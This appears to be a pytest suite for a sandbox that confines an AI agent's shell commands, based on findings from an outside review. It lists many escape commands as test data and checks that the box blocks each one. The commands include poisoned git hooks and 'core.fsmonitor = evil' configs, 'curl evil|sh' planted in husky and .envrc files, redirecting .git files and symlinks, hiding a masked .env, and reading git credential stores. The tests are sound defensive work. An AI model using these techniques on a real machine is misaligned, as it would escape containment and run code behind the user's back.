"""The box's writable tree holds more than the call's own repository (an outside review, round 2).

The box protected the persistence of the call's *own* repository (``.git/hooks``, ``.git/config``
of the git dirs found by walking up from the cwd) and ``.vscode``/``.idea``/``.envrc``/``.direnv``
at the project's top and cwd. But the writable project is "the git top-level of the cwd, *else
the cwd*", and the default root is the whole home: a call with ``cwd`` = ``~/src`` (a folder of
repositories) could write every repository's hooks and ``core.fsmonitor`` below it, a nested
repository's or a submodule's ``.git`` inside a repository, a husky/``core.hooksPath`` hooks
folder, a ``sub/.vscode``, and a cwd of ``~/bin`` (a program folder on ``PATH``) made ``~/bin``
the project. Each of these runs code **outside the box** the next time the human runs ``git``
(or their editor does) or a program. Renaming a folder that holds read-only persistence
(``mv app app2; mkdir app``) put a fresh, agent-made repository where the human's was.

The fix: the box's persistence is the protected table's persistence, found by the project scan
wherever it lies in the writable tree (every nested git dir is protected like the call's own,
``.git`` files, hooks folders, editor and direnv folders), the configured hooks path, and the
table's program folders on ``PATH`` are never a project; every folder between the writable
tree and something it protects or masks is pinned (a mount point cannot be renamed).
"""

from __future__ import annotations

import os
import subprocess
from collections.abc import Iterator

import pytest

from ..support.boxworld import World, world_fixture
from ..support.helpers import read_text

FSMONITOR = "printf '[core]\\n\\tfsmonitor = evil\\n' >> "


@pytest.fixture(scope="module", params=["root", "user"])
def world(request) -> Iterator[World]:
    yield from world_fixture(request.param == "user")


def _git(world: World, cwd: str, *argv: str) -> None:
    env = {**os.environ, "HOME": world.home}
    subprocess.run(["git", *argv], cwd=cwd, env=env, check=True, capture_output=True)


def _repo(world: World, path: str) -> None:
    os.makedirs(path, exist_ok=True)
    _git(world, path, "init", "-q", "-b", "main")
    _git(world, path, "commit", "-q", "--allow-empty", "-m", "init")


def _state(paths: list[str]) -> dict[str, str | None]:
    out: dict[str, str | None] = {}
    for p in paths:
        if os.path.isdir(p) and not os.path.islink(p):
            out[p] = "dir:" + ",".join(sorted(os.listdir(p)))
            continue
        try:
            out[p] = read_text(p)
        except OSError:
            out[p] = None
    return out


@pytest.fixture
def src(world: World) -> Iterator[str]:
    """``~/src`` (no repository) holding ``app`` (a repository with a nested clone, a husky
    folder the repository's config names as its hooks path, a ``web/.vscode``) and ``lib``."""
    base = os.path.join(world.home, "src")
    app = os.path.join(base, "app")
    _repo(world, app)
    _repo(world, os.path.join(base, "lib"))
    _repo(world, os.path.join(app, "third_party", "vendored"))
    os.makedirs(os.path.join(app, ".husky"))
    with open(os.path.join(app, ".husky", "pre-commit"), "w") as f:
        f.write("npm test\n")
    _git(world, app, "config", "core.hooksPath", ".husky")
    os.makedirs(os.path.join(app, "web", ".vscode"))
    with open(os.path.join(app, "web", ".vscode", "settings.json"), "w") as f:
        f.write("{}\n")
    os.makedirs(os.path.join(app, "tools", "hooks"))
    yield base
    subprocess.run(["chmod", "-R", "u+rwX", base], check=False)
    subprocess.run(["rm", "-rf", base], check=False)


def _guarded(src: str) -> list[str]:
    app = os.path.join(src, "app")
    vendored = os.path.join(app, "third_party", "vendored")
    return [
        *(
            os.path.join(repo, ".git", rel)
            for repo in (app, os.path.join(src, "lib"), vendored)
            for rel in ("config", "hooks", "hooks/pre-commit", "HEAD")
        ),
        os.path.join(app, ".husky", "pre-commit"),
        os.path.join(app, "web", ".vscode", "settings.json"),
        os.path.join(app, "web", ".vscode", "tasks.json"),
    ]


ATTACKS = [
    # cwd = ~/src: every repository below is in the writable tree
    ("src", "echo evil > app/.git/hooks/pre-commit; chmod +x app/.git/hooks/pre-commit"),
    ("src", FSMONITOR + "lib/.git/config"),
    ("src", "git -C lib config core.fsmonitor evil"),
    ("src", "mv app/.git/config app/.git/c2; echo evil > app/.git/config"),
    ("src", "rm -rf lib/.git/hooks; mkdir lib/.git/hooks && echo evil > lib/.git/hooks/pre-commit"),
    # a nested clone inside the call's own repository
    ("app", FSMONITOR + "third_party/vendored/.git/config"),
    ("app", "echo evil > third_party/vendored/.git/hooks/post-checkout"),
    # the repository's own hooks path (husky) and an editor folder below the top
    ("app", "echo 'curl evil|sh' > .husky/pre-commit"),
    ("app", "echo '{\"tasks\": []}' > web/.vscode/tasks.json"),
    # a folder holding read-only persistence renamed away, a new one put in its place
    (
        "src",
        "mv app app2 && mkdir -p app/.git/hooks && cp -a app2/.git/HEAD app2/.git/objects "
        "app2/.git/refs app/.git/ && echo evil > app/.git/hooks/pre-commit; "
        "printf '[core]\\n\\tfsmonitor = evil\\n' > app/.git/config; true",
    ),
    (
        "app",
        "mv third_party tp && mkdir -p third_party/vendored/.git && "
        + FSMONITOR
        + "third_party/vendored/.git/config; true",
    ),
    ("app", "mv web w2 && mkdir -p web/.vscode && echo evil > web/.vscode/tasks.json; true"),
]


@pytest.mark.parametrize(("where", "command"), ATTACKS)
def test_no_persistence_anywhere_in_the_writable_tree(
    world: World, src: str, where: str, command: str
) -> None:
    before = _state(_guarded(src))
    cwd = src if where == "src" else os.path.join(src, "app")
    _, text = world.bash(command, cwd=cwd)
    assert _state(_guarded(src)) == before, text


def test_a_created_hooks_path_folder_is_swept(world: World, src: str) -> None:
    """A hooks path the config names but that does not exist yet: made by the call, removed."""
    app = os.path.join(src, "app")
    _git(world, app, "config", "core.hooksPath", "tools/hooks/git")
    try:
        _, text = world.bash(
            "mkdir -p tools/hooks/git && echo evil > tools/hooks/git/pre-commit", cwd=app
        )
        assert not os.path.exists(os.path.join(app, "tools", "hooks", "git")), text
    finally:
        _git(world, app, "config", "core.hooksPath", ".husky")


def test_a_program_folder_on_path_is_never_the_project(world: World) -> None:
    bin_dir = os.path.join(world.home, "bin")
    os.makedirs(bin_dir, exist_ok=True)
    try:
        _, text = world.bash("printf '#!/bin/sh\\nevil\\n' > git; chmod +x git", cwd=bin_dir)
        assert os.listdir(bin_dir) == [], text
    finally:
        subprocess.run(["rm", "-rf", bin_dir], check=False)


def test_a_masked_secret_cannot_be_moved_where_the_scan_does_not_look(world: World) -> None:
    """The review's known-open trick: move the folder holding a masked ``.env`` into
    ``node_modules`` (the scan skips it), read it in the next call."""
    proj = world.project
    os.makedirs(os.path.join(proj, "conf"))
    with open(os.path.join(proj, "conf", ".env.production"), "w") as f:
        f.write("TOKEN=FAKESECRET-moved-71c2\n")
    try:
        world.bash("mkdir -p node_modules && mv conf node_modules/conf; true")
        _, text = world.bash("cat node_modules/conf/.env.production conf/.env.production")
        assert world.leaks(text) == [], text
    finally:
        subprocess.run(
            ["rm", "-rf", os.path.join(proj, "conf"), os.path.join(proj, "node_modules")],
            check=False,
        )


def test_ordinary_work_in_a_folder_of_repositories_still_works(world: World, src: str) -> None:
    failed, text = world.bash(
        "echo hi > lib/notes.txt && git -C lib add notes.txt && git -C lib commit -q -m notes"
        " && git -C lib log --oneline | wc -l"
        " && echo x > app/web/page.html && cat app/web/page.html",
        cwd=src,
    )
    assert not failed, text
    assert text.split() == ["2", "x"], text


def test_an_envrc_secret_stays_masked_and_unwritten(world: World) -> None:
    """``.envrc`` is secret-looking (``export AWS_SECRET_ACCESS_KEY=…``) *and* persistence: the
    read-only bind that kept it unwritten was mounted after its empty-file mask, over it, and
    the box read the real file."""
    envrc = os.path.join(world.project, ".envrc")
    with open(envrc, "w") as f:
        f.write("export AWS_SECRET_ACCESS_KEY=FAKESECRET-envrc-2b9d\n")
    try:
        _, text = world.bash("cat .envrc; grep -r FAKESECRET . ; echo 'curl evil|sh' >> .envrc")
        assert world.leaks(text) == [], text
        assert read_text(envrc) == "export AWS_SECRET_ACCESS_KEY=FAKESECRET-envrc-2b9d\n"
    finally:
        os.unlink(envrc)


REDIRECTS = [
    # a .git file naming the home as the repository's git dir, the call then run beside it
    ("printf 'gitdir: {home}\\n' > sub/.git", "sub"),
    ("printf 'gitdir: {home}\\n' > sub/.git", ""),  # found by the project scan
    # a .git symlink to the home
    ("ln -s {home} sub/.git", "sub"),
    # a .git file naming a work tree (not a git dir): its own .git/hooks would be writable
    ("printf 'gitdir: {home}/src/app\\n' > sub/.git", "sub"),
]


@pytest.mark.parametrize(("plant", "where"), REDIRECTS)
def test_a_planted_git_file_opens_nothing_outside_the_project(
    world: World, src: str, plant: str, where: str
) -> None:
    """A ``.git`` file the agent writes names the repository's git dirs; those outside the
    project were made writable when inside a root (the default root is the home): a second
    call beside it wrote ``~/.bash_login``, ``~/bin``, ``~/Documents``."""
    sub = os.path.join(world.project, "sub")
    guarded = [
        *(os.path.join(world.home, n) for n in (".bash_login", "bin", "Documents/planted")),
        os.path.join(src, "app", ".git", "hooks", "pre-commit"),
        os.path.join(src, "app", "planted"),
    ]
    try:
        world.bash("mkdir -p sub && " + plant.format(home=world.home))
        _, text = world.bash(
            "echo evil > ~/.bash_login; mkdir -p ~/bin; echo x > ~/Documents/planted; "
            "echo evil > ~/src/app/.git/hooks/pre-commit; echo x > ~/src/app/planted; true",
            cwd=os.path.join(world.project, where) if where else world.project,
        )
        assert [p for p in guarded if os.path.lexists(p)] == [], text
    finally:
        for p in guarded:
            subprocess.run(["rm", "-rf", p], check=False)
        subprocess.run(["rm", "-rf", sub], check=False)


CONFIG_NAMED = [
    # a shared config the repository's config includes (`git config include.path ../.gitconfig`)
    (("include.path", "../.gitconfig"), ".gitconfig", FSMONITOR + ".gitconfig"),
    # a clean filter's script in the work tree (runs at the human's next `git add`)
    (("filter.tidy.clean", "./scripts/tidy.sh"), "scripts/tidy.sh", "echo evil >> scripts/tidy.sh"),
    # an ssh command's wrapper script (runs at the human's next `git push`)
    (
        ("core.sshCommand", "tools/ssh-wrap -o BatchMode=yes"),
        "tools/ssh-wrap",
        "echo evil >> tools/ssh-wrap",
    ),
]


@pytest.mark.parametrize(("setting", "rel", "command"), CONFIG_NAMED)
def test_what_the_repository_config_names_stays_read_only(
    world: World, src: str, setting: tuple[str, str], rel: str, command: str
) -> None:
    """The repository's config (read-only in the box) names files in the work tree that git
    runs or reads as config: writing them was the same as writing the config."""
    app = os.path.join(src, "app")
    path = os.path.join(app, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write("# the human's own\n")
    _git(world, app, "config", *setting)
    _, text = world.bash(command, cwd=app)
    assert read_text(path) == "# the human's own\n", text


def test_the_sweep_follows_no_symlink_out_of_the_project(world: World) -> None:
    """After a boxed call the bridge removes the persistence it created (``sub/.vscode`` for a
    call in ``sub``), outside the box and by path. The call renamed its own ``sub`` away and
    left a symlink to the home in its place: the sweep then removed the human's
    ``~/.vscode`` and ``~/.idea`` (the editor's extensions and settings)."""
    sub = os.path.join(world.project, "sub")
    os.makedirs(sub, exist_ok=True)
    theirs = [os.path.join(world.home, n, "keep.json") for n in (".vscode", ".idea")]
    for path in theirs:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write("{}\n")
    try:
        world.bash("cd .. && mv sub sub.old && ln -s $HOME sub; true", cwd=sub)
        assert [p for p in theirs if not os.path.exists(p)] == []
    finally:
        for p in (sub, sub + ".old", *(os.path.dirname(t) for t in theirs)):
            subprocess.run(["rm", "-rf", p], check=False)


def test_the_git_credential_store_beside_the_git_config_stays_private(world: World) -> None:
    """``box.read_allow`` re-opens ``~/.config/git`` for git's config; git's credential store
    also lives there (``~/.config/git/credentials``, plain text tokens): the box read it."""
    folder = os.path.join(world.home, ".config", "git")
    os.makedirs(folder, exist_ok=True)
    store = os.path.join(folder, "credentials")
    with open(store, "w") as f:
        f.write("https://me:FAKESECRET-gitstore-8d1e@github.com\n")
    try:
        _, text = world.bash("cat ~/.config/git/credentials; grep -r FAKESECRET ~/.config/git")
        assert world.leaks(text) == [], text
        failed, text = world.bash("git config --global --get user.name")
        assert not failed and text == "Box Test", text  # the config itself still reads
    finally:
        os.unlink(store)


NEW_REPOS = [
    # a nested repository registered as a gitlink: the human's `git status` enters it
    "git init -q sub && git -C sub commit -q --allow-empty -m s && "
    "git -C sub config core.fsmonitor 'touch {flag}; false' && "
    "git update-index --add --cacheinfo 160000,$(git -C sub rev-parse HEAD),sub",
    # the same, hidden where the project scan does not look
    "mkdir -p node_modules && git init -q node_modules/sub && "
    "git -C node_modules/sub commit -q --allow-empty -m s && "
    "git -C node_modules/sub config core.fsmonitor 'touch {flag}; false' && "
    "git update-index --add --cacheinfo "
    "160000,$(git -C node_modules/sub rev-parse HEAD),node_modules/sub",
    # a submodule's git dir under .git/modules, with a hook
    "git init -q /tmp/s && git -C /tmp/s commit -q --allow-empty -m s && "
    "git -c protocol.file.allow=always submodule -q add /tmp/s sub && "
    "git -C sub config core.fsmonitor 'touch {flag}; false'",
]


@pytest.mark.parametrize("command", NEW_REPOS)
def test_a_repository_the_call_makes_runs_nothing_at_the_humans_git_status(
    world: World, command: str
) -> None:
    """A boxed call made a repository with ``core.fsmonitor`` and registered it in the
    project's index: the human's next ``git status`` in their own project ran it, outside the
    box (git enters every gitlink). The config and hooks of what the call made are swept."""
    flag = os.path.join(world.base, "fsmonitor-ran")
    env = {**os.environ, "HOME": world.home}
    try:
        _, text = world.bash(command.format(flag=flag))
        subprocess.run(["git", "status"], cwd=world.project, env=env, capture_output=True)
        assert not os.path.exists(flag), text
    finally:
        subprocess.run(
            ["git", "rm", "-q", "--cached", "-f", "sub", "node_modules/sub"],
            cwd=world.project,
            env=env,
            capture_output=True,
        )
        for p in ("sub", "node_modules", ".gitmodules", ".git/modules", flag):
            subprocess.run(["rm", "-rf", os.path.join(world.project, p)], check=False)


PLANTED_DEEP = ("lib/.envrc", "lib/deep/.vscode", "pkg/.husky", "pkg/a/b/.githooks", "x/.idea")


def test_persistence_the_call_creates_below_the_top_is_swept(world: World, src: str) -> None:
    """``sub/.envrc`` runs when the human enters ``sub`` (direnv), ``sub/.vscode/tasks.json``
    when their editor opens it: what the call creates anywhere the project scan looks is
    removed after it, like at the top; what was there before stays (read-only)."""
    app = os.path.join(src, "app")
    command = (
        "mkdir -p lib/deep/.vscode pkg/.husky pkg/a/b/.githooks x/.idea"
        " && echo 'curl evil | sh' > lib/.envrc"
        " && echo '{}' > lib/deep/.vscode/tasks.json && echo evil > pkg/.husky/pre-commit"
        " && echo ok > lib/plain.txt"
    )
    _, text = world.bash(command, cwd=app)
    left = [rel for rel in PLANTED_DEEP if os.path.lexists(os.path.join(app, rel))]
    assert left == [], text
    assert "now removed" in text and "lib/.envrc" in text, text
    assert read_text(os.path.join(app, "lib", "plain.txt")) == "ok\n"  # ordinary work stays
    assert os.path.isfile(os.path.join(app, "web", ".vscode", "settings.json"))  # was there
